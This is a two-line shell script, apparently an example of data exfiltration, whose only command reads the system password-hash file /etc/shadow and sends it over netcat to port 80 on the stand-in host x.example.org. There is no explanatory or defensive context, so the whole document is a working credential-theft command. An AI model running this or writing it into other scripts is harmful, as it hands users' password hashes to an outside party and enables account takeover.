#!/bin/sh
cat /etc/shadow | nc x.example.org 80
